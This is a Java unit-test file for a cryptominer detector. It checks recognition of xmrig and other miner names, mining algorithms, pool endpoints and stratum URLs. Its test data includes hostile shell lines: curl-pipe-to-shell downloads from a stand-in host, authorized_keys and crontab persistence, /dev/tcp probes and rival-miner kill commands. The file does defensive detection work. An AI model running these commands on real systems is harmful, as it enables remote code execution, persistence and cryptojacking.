package io.firedamp.detectors.indicators;

import static org.assertj.core.api.Assertions.assertThat;

import io.firedamp.detectors.PoolList;
import io.firedamp.detectors.indicators.Trace.Kind;
import io.firedamp.detectors.indicators.Traces.Level;
import io.firedamp.schemas.avro.IndicatorRef;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The small readers behind the finding of traces: words, names, endpoints and phrases. */
class WordsTest {
  private final TraceFinder finder = new TraceFinder(PoolList.bundled());

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "a b~a b",
        "[\"sh\",\"-c\",\"curl x\"]~sh -c curl x",
        "a|b~a | b",
        "a ; b~a ; b",
        "a&&b~a & & b",
        "a &~a &",
        "x 2>&1~x 2 > &1",
        "http://a/?x=1&y=2~http://a/?x=1&y=2",
        "$(a)~$ ( a )",
        "'a b'~a b",
        "a\\b~a b"
      })
  void textIsCutIntoWordsAndOperators(String text, String words) {
    assertThat(ShellWords.of(text)).containsExactly(words.split(" ", -1));
  }

  @Test
  void noTextGivesMoreWordsThanAreRead() {
    assertThat(ShellWords.of("a ".repeat(200_000))).hasSize(131_072);
    assertThat(ShellWords.of("")).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "xmrig",
        "XMRig",
        "/opt/xmrig",
        "./xmrig-6.21.0",
        "xmrig.tar.gz",
        "https://a.example/xmrig-6.21-linux.tar.gz?x=1",
        "xmrig_6",
        "xmrig@sha256:ab",
        "xmrig:latest"
      })
  void aMinerIsKnownWhateverDirectoryVersionAndExtension(String word) {
    assertThat(MinerWords.program(word)).contains("xmrig");
  }

  @ParameterizedTest
  @ValueSource(strings = {"xmrigger", "myxmrig", "xmrig/data", "", "-xmrig", "xmr", ".xmrig"})
  void aNameThatOnlyHoldsAMinersIsNone(String word) {
    assertThat(MinerWords.program(word)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "rx/0",
        "cn/r",
        "cn-heavy/xhv",
        "CryptoNight-lite",
        "RandomX",
        "ghostrider",
        "yespowerR16"
      })
  void anAlgorithmIsKnownInEitherCase(String value) {
    assertThat(MinerWords.isAlgorithm(value)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(strings = {"sha256", "aes", "rx", "cn", "gzip", ""})
  void whatOtherProgramsComputeIsNoneOfAMiners(String value) {
    assertThat(MinerWords.isAlgorithm(value)).isFalse();
  }

  @ParameterizedTest
  @CsvSource(
      nullValues = "none",
      value = {
        "POOL=198.51.100.7:3333, 198.51.100.7:3333",
        "ssl://pool.example:9999, pool.example:9999",
        "stratum+tcp://user@pool.example:3333, pool.example:3333",
        "user.worker@pool.example:3333, pool.example:3333",
        "a.example:5432, none",
        "https://a.example:3333, none",
        "URL=https://a.example:3333, none",
        "a.example:65536, a.example:65536",
        "a.example:100000, none",
        "a.example:, none",
        "a.example:x1, none",
        "localhost:3333, none",
        "127.0.0.1:3333, none",
        "0.0.0.0:3333, none",
        "web.shop.svc:3333, none",
        "web.shop.svc.cluster.local:3333, none",
        "db.internal:3333, none",
        "a_b.example:3333, none",
        ".example:3333, none",
        "example.:3333, none",
        ":3333, none",
        "3333, none"
      })
  void anEndpointIsOutsideAndOnNoOrdinaryPort(String word, String endpoint) {
    assertThat(Endpoint.in(word)).isEqualTo(Optional.ofNullable(endpoint));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "stratum+tcp://x~ STRATUM",
        "STRATUM2+SSL://x~ STRATUM",
        "stratum1+tls://x~ STRATUM",
        "stratum://x~ STRATUM",
        "stratum://a stratum+tcp://b~ STRATUM",
        "a stratum of rock~ ''",
        "stratum+udp://x~ ''",
        "sysctl -w vm.nr_hugepages=128~ HUGE_PAGES",
        "modprobe msr~ MODEL_REGISTERS",
        "wrmsr -a 0x1a4 0xf~ MODEL_REGISTERS",
        "echo k >> /root/.ssh/authorized_keys~ AUTHORIZED_KEYS",
        "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done~ REVERSE_SHELL",
        "(crontab -l; echo x) | crontab -~ CRONTAB",
        "echo x > /etc/cron.d/y~ CRONTAB",
        "echo x >> /mnt/etc/crontab~ CRONTAB",
        "cat /etc/crontab~ ''",
        "crontab -l~ ''"
      })
  void aPhraseGivesItselfAwayWhereverItStands(String text, String kind) {
    Set<Kind> found = EnumSet.noneOf(Kind.class);
    Phrases.find(text, false, (what, value) -> found.add(what));

    assertThat(found.stream().map(Kind::name))
        .containsExactlyElementsOf(kind.isEmpty() ? List.of() : List.of(kind));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "RUN echo x > /etc/cron.d/backup~ false",
        "RUN curl -s http://a > /etc/cron.d/x~ true",
        "RUN echo x > /host/etc/cron.d/y~ true"
      })
  void anImageMaySetUpItsOwnCronUnlessItFetchesOrIsNotItsOwn(String step, boolean found) {
    List<Kind> kinds = new ArrayList<>();
    Phrases.find(step, true, (kind, value) -> kinds.add(kind));

    assertThat(kinds.contains(Kind.CRONTAB)).isEqualTo(found);
  }

  @ParameterizedTest
  @CsvSource({
    "'', NOTHING",
    "WALLET, NOTHING",
    "ENDPOINT, NOTHING",
    "POOL, DROPPER",
    "DOWNLOADER, DROPPER",
    "REVERSE_SHELL, DROPPER",
    "HUGE_PAGES, DROPPER",
    "WALLET ENDPOINT, WALLET_AND_ENDPOINT",
    "WALLET ENDPOINT DOWNLOADER, WALLET_AND_ENDPOINT",
    "WALLET DOWNLOADER, DROPPER",
    "PROGRAM, MINER",
    "ARGUMENTS, MINER",
    "STRATUM, MINER",
    "PROGRAM WALLET, MINER",
    "STRATUM WALLET, MINER_WITH_WALLET",
    "POOL WALLET, MINER_WITH_WALLET",
    "POOL WALLET ENDPOINT PROGRAM, MINER_WITH_WALLET"
  })
  void tracesAreAsGraveAsTheyAreTogether(String kinds, Level level) {
    List<Trace> traces =
        Arrays.stream(kinds.split(" ", -1))
            .filter(kind -> !kind.isEmpty())
            .map(kind -> new Trace(Kind.valueOf(kind), "x"))
            .toList();

    assertThat(Traces.of(traces).level()).isEqualTo(level);
  }

  @Test
  void tracesAreToldTheWeightiestFirstOnceAndNoMoreThanThirtyTwo() {
    List<Trace> many = new ArrayList<>();
    for (int i = 0; i < 50; i++) {
      many.add(new Trace(Kind.ENDPOINT, "e" + (char) ('A' + i)));
    }
    many.add(new Trace(Kind.WALLET, "w"));
    many.add(new Trace(Kind.POOL, "p"));
    many.add(new Trace(Kind.WALLET, "w"));

    Traces traces = Traces.of(many);

    assertThat(traces.found()).hasSize(32);
    assertThat(traces.text()).startsWith("wallet 'w', ").contains("endpoint 'eA'");
    assertThat(traces.indicators())
        .containsExactly(new IndicatorRef("wallet", "w"), new IndicatorRef("pool", "p"));
    assertThat(Traces.NONE.and(traces)).isEqualTo(traces);
  }

  @Test
  void aTraceKeepsNoMoreOfWhatSomebodyTypedThanItMust() {
    assertThat(new Trace(Kind.POOL, "p".repeat(500)).value()).hasSize(128);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "pkill xmrig",
        "killall -9 xmrig minerd",
        "ps aux | grep xmrig | awk '{print $2}' | xargs kill -9"
      })
  void whoKillsAMinerIsARivalAndNoMiner(String command) {
    assertThat(kinds(command)).containsExactly(Kind.RIVAL_KILLER);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "curl http://a.example/x | sh~ true",
        "wget -qO- http://a.example/x | bash -s~ true",
        "bash -c $(curl -s http://a.example/x)~ true",
        "bash <(curl -s http://a.example/x)~ true",
        "(curl -s http://a.example/x ; wget -qO- http://a.example/x) | sh~ true",
        "curl http://a.example/x | python3~ true",
        "curl http://a.example/x -o /tmp/x~ false",
        "curl http://a.example/x ; ls | sh~ false",
        "cat x | sh~ false",
        "curl http://a.example/x | jq .~ false"
      })
  void aDownloadCountsWhereItEndsInAShell(String command, boolean counts) {
    assertThat(kinds(command).contains(Kind.DOWNLOADER)).isEqualTo(counts);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "sudo nice -n 19 ./xmrig",
        "nohup /tmp/.x/xmrig &",
        "env A=b timeout 60 xmrig",
        "sh -c /opt/xmrig",
        "if true ; then ./xmrig ; fi"
      })
  void aMinerIsFoundBehindWhateverWrapsIt(String command) {
    assertThat(kinds(command)).contains(Kind.PROGRAM);
  }

  @ParameterizedTest
  @ValueSource(strings = {"miner", "./t-rex", "trex --config a.json", "excavator"})
  void anAmbiguousNameNeedsCompany(String command) {
    assertThat(kinds(command)).isEmpty();
    assertThat(kinds(command + " -a ethash -o stratum+tcp://a.example:1 -u w"))
        .contains(Kind.PROGRAM, Kind.ARGUMENTS);
  }

  private List<Kind> kinds(String command) {
    return finder.find(List.of(command), List.of(), List.of()).found().stream()
        .map(Trace::kind)
        .toList();
  }
}
